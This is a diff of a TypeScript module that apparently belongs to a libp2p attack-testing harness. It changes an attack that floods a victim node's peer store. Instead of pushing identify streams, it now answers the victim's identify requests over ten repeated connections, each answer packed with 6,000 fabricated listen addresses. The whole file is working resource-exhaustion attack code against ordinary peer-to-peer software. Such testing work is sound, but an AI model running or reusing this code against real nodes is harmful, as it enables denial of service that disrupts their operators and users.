@@ -1,16 +1,17 @@
-/** Row 2: identify messages that carry thousands of addresses; the same work for the peer store as those of the DHT. */
+/** Row 2: answers to identify that carry thousands of addresses; the same work for the peer store as those of the DHT. */
 import type { Attack } from './attack.ts'
 import { finding } from './attack.ts'
 import { addressBytes } from './dht-addresses.ts'
 import { bytesField, delimited } from './protobuf.ts'
-import { dial, openStream, PUSH_PROTOCOL, sendAll, stranger } from './stranger.ts'
+import { dial, identifyAs, stranger } from './stranger.ts'
 import { pause } from './waiting.ts'
 
 const LISTEN_ADDRESSES = 2
-/** Of one stream, in messages of at most 8 KiB. */
+/** Of one answer, in messages of at most 8 KiB. */
 const MESSAGES = 10
 const ADDRESSES = 600
-const STREAMS = 20
+/** A peer asks who we are on each new connection. */
+const CONNECTIONS = 10
 
 export const identifyAddresses: Attack = {
   row: 2,
@@ -19,23 +20,26 @@ export const identifyAddresses: Attack = {
   async run({ victim, source, pressing }) {
     const libp2p = await stranger(source)
     try {
-      const connection = await dial(libp2p, victim.address)
-      let sent = 0
-      for (let stream = 0; stream < STREAMS; stream += 1) {
-        const push = await openStream(connection, PUSH_PROTOCOL)
-        if (push === undefined) continue
-        const parts = Array.from({ length: MESSAGES }, (_, message) => {
-          const first = (stream * MESSAGES + message) * ADDRESSES
-          return delimited(...Array.from({ length: ADDRESSES }, (__, index) => bytesField(LISTEN_ADDRESSES, addressBytes(first + index))))
-        })
-        if (await sendAll(push, Buffer.concat(parts))) sent += 1
-        await push.close().catch(() => {})
+      const answers = Array.from({ length: CONNECTIONS }, (_, connection) => answerFrom(connection * MESSAGES * ADDRESSES))
+      let asked = 0
+      await identifyAs(libp2p, () => answers[(asked += 1) % CONNECTIONS] ?? Buffer.alloc(0))
+      for (let connection = 0; connection < CONNECTIONS; connection += 1) {
+        await dial(libp2p, victim.address, true).catch(() => {})
+        await pause(200)
       }
       await pressing()
       await pause(2_000)
-      return [finding(true, `${sent} streams of ${MESSAGES * ADDRESSES} addresses sent`)]
+      return [finding(true, `asked ${asked} times, ${MESSAGES * ADDRESSES} addresses told each time`)]
     } finally {
       await libp2p.stop()
     }
   },
+}
+
+function answerFrom(first: number): Buffer {
+  const messages = Array.from({ length: MESSAGES }, (_, message) => {
+    const start = first + message * ADDRESSES
+    return delimited(...Array.from({ length: ADDRESSES }, (__, index) => bytesField(LISTEN_ADDRESSES, addressBytes(start + index))))
+  })
+  return Buffer.concat(messages)
 }
